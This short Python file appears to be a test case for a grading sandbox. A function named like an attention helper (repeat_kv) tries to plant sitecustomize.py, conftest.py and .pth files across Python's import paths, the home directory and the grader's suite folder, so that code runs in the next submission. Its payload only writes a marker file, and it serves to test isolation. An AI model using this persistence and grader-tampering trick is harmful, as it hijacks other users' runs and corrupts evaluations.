# outcome: failed
# needs: landlock
"""Plants modules where the next submission's Python would look for them."""

import os
import site
import sys

CODE = 'open(r"{{marker}}/PWNED", "w").write("ran")'


def repeat_kv(x, n_rep):
    folders = [*sys.path, *site.getsitepackages(), ".", "..", "/tmp", os.path.expanduser("~")]
    folders += ["{{repo}}/grader/suites/ch5", os.path.dirname(os.__file__), "{{marker}}"]
    for folder in folders:
        for name in ("sitecustomize.py", "conftest.py", "PWNED", "zz-evil.pth"):
            path = os.path.join(folder, name)
            try:
                if not os.path.exists(path):
                    with open(path, "x") as file:
                        file.write(CODE)
            except OSError:
                continue
    return x
